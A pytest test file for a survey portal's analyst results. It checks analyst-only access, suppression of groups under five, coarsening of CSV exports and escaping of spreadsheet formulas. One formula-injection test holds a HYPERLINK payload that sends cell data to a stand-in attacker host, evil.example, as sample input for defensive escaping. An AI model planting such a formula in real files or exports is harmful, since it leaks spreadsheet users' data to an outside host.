"""The analyst's results: only for the analyst; counts, percentages and means right; no group
under five shown; filters; the CSV of every response."""

from __future__ import annotations

import asyncio
import csv
import io
from collections import Counter
from datetime import date

from portal import csvfiles
from portal.db import Database
from portal.people import service as people
from portal.people.models import StaffRoleName
from portal.surveys import analysis, service
from portal.surveys.definitions import all_surveys
from tests.applications.test_routes import translated
from tests.casework.test_desk import switch_to
from tests.client import TestClient
from tests.conftest import sign_in

RECIPIENTS = all_surveys()["recipients-2026"]
PETERIS, ANNA = "300688-11000", "150385-11001"


def seed(database_url: str, answers: list[tuple[str, dict[str, object]]]) -> None:
    async def work() -> None:
        db = Database(database_url)
        async with db.session() as session:
            analyst = await people.ensure_person(session, PETERIS, "Pēteris", "Zariņš")
            await people.add_staff_role(session, analyst, StaffRoleName.SURVEY_ANALYST, None)
            await people.ensure_person(session, ANNA, "Anna", "Bērziņa")
            for language, given in answers:
                await service.add_response(session, RECIPIENTS, given, language, date(2026, 11, 20), None)
        await db.dispose()

    asyncio.run(work())


def test_the_counts_and_the_rule_of_five() -> None:
    responses = [{"where": "municipality", "hours_fit": "4"}] * 6 + [{"where": "university", "hours_fit": "2"}] * 2
    results = {r.question.id: r for r in analysis.tabulate(RECIPIENTS, responses)}
    where = {row.value: row for row in results["where"].rows}
    assert (where["municipality"].count, where["municipality"].percent) == (6, 75.0)
    assert where["university"].count is None and where["university"].percent is None  # fewer than 5
    assert results["hours_fit"].mean == round((6 * 4 + 2 * 2) / 8, 2)
    assert results["what_to_change"].suppressed  # nobody wrote anything


def test_only_the_analyst_reads_results_as_tables_charts_and_csv(client: TestClient, database_url: str) -> None:
    seed(database_url, [("lv", {"where": "municipality", "hours_fit": "5", "what_to_change": "Vairāk stundu."})] * 5
         + [("ru", {"where": "college", "hours_fit": "3"})] * 3)
    sign_in(client, ANNA)
    assert client.get("/lv/analysis").status_code == 404
    assert client.get(f"/lv/analysis/{RECIPIENTS.id}").status_code == 404
    assert client.get(f"/lv/analysis/{RECIPIENTS.id}.csv").status_code == 404
    switch_to(client, PETERIS)
    index = client.get("/lv/analysis").text
    assert f'/lv/analysis/{RECIPIENTS.id}"' in index
    page = client.get(f"/lv/analysis/{RECIPIENTS.id}").text
    # The chart is one image named once; its figures are the table's, not a description as well (issue 15).
    assert '<div class="bar-chart" id="chart-where" role="img"' in page and "<desc" not in page
    assert translated("lv", "fewer than 5") in page  # the three answers from colleges
    assert "Vairāk stundu." in page
    only_russian = client.get(f"/lv/analysis/{RECIPIENTS.id}?language=ru").text
    assert translated("lv", "Fewer than 5 responses match: to protect the respondents, no results are shown.") in only_russian
    assert "<svg" not in only_russian
    assert "3 no 8" not in only_russian  # not even how many matched
    exported = client.get(f"/ru/analysis/{RECIPIENTS.id}.csv")
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig")), delimiter=";"))
    where = next(q for q in RECIPIENTS.questions() if q.id == "where")
    assert rows[0][:3] == [translated("ru", "Language of answering"), translated("ru", "Period"), where.text("ru")]
    # The five from the municipality in Latvian share their combination; the three from colleges stand out: left out.
    assert len(rows) == 1 + 5 and {row[0] for row in rows[1:]} == {"lv"}
    what_to_change = next(q for q in RECIPIENTS.questions() if q.id == "what_to_change")
    assert what_to_change.text("ru") not in rows[0] and not any("Vairāk stundu." in cell for row in rows for cell in row)
    texts = list(csv.reader(io.StringIO(client.get(f"/ru/analysis/{RECIPIENTS.id}/texts.csv").content.decode("utf-8-sig")), delimiter=";"))
    assert texts == [[translated("ru", "Question"), translated("ru", "Answer")]] + [[what_to_change.text("ru"), "Vairāk stundu."]] * 5
    switch_to(client, ANNA)
    assert client.get(f"/lv/analysis/{RECIPIENTS.id}/texts.csv").status_code == 404


class Answered:
    """A response as the export reads it."""

    def __init__(self, language: str, on: date, answers: dict[str, object]) -> None:
        self.language, self.submitted_on, self.answers = language, on, answers


def test_every_combination_in_the_export_is_shared_by_five_or_is_left_out() -> None:
    """The issue's shape: 34 combinations of language, month, place and service, most of them one person's."""
    places, services = ("municipality", "university", "college"), ("adult_assistant", "child_assistant", "school_assistant", "")
    responses = [Answered("lv" if n % 3 else "ru", date(2026, 11 + n % 2, 3), {"where": places[n % 3], "service_kind": services[n % 4]})
                 for n in range(34)] + [Answered("lv", date(2026, 11, 5), {"where": "municipality", "service_kind": "adult_assistant"})] * 6
    shown, left_out = analysis.safe_rows(responses)
    assert len(shown) + left_out == len(responses) and left_out < analysis.MIN_GROUP
    combinations = Counter((r.language, r.month, r.place, r.service) for r in shown)
    assert min(combinations.values()) >= analysis.MIN_GROUP, combinations
    assert combinations[("lv", "2026-11", "municipality", "adult_assistant")] >= 6  # a big enough group keeps everything
    assert any(None in key for key in combinations)  # the rest were coarsened


def test_a_formula_a_visitor_writes_comes_out_of_the_csv_neutralised(client: TestClient, database_url: str) -> None:
    portal = all_surveys()["portal-2026"]
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rReturn"]

    async def answered() -> None:
        db = Database(database_url)
        for text in [*formulas, "Labi."]:
            async with db.session() as session:
                await service.submit_public(session, portal, {"ease": "4", "purpose": "other", "improve": text}, "lv", date(2026, 11, 20))
        await service.release_held(db, date(2026, 11, 20))
        await db.dispose()

    seed(database_url, [])
    asyncio.run(answered())
    sign_in(client, PETERIS)
    texts = list(csv.reader(io.StringIO(client.get(f"/lv/analysis/{portal.id}/texts.csv").content.decode("utf-8-sig")), delimiter=";"))
    assert sorted(row[1] for row in texts[1:]) == sorted(["'" + text for text in formulas] + ["Labi."])


def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_read_a_formula() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csvfiles.cell(start + "1") == "'" + start + "1"
    # A fraction with a decimal comma, as a Latvian- or Russian-locale spreadsheet reads a number.
    assert [csvfiles.cell(v) for v in ("Labi", " =1", "", None, 5, -5, 2.5)] == ["Labi", " =1", "", "", 5, -5, "2,5"]
    out = io.StringIO()
    csvfiles.writer(out).writerow(["=1+2", "a;b", "a,b"])
    assert out.getvalue() == "'=1+2;\"a;b\";a,b\r\n"  # cells split at ';', which a cell of its own is quoted for
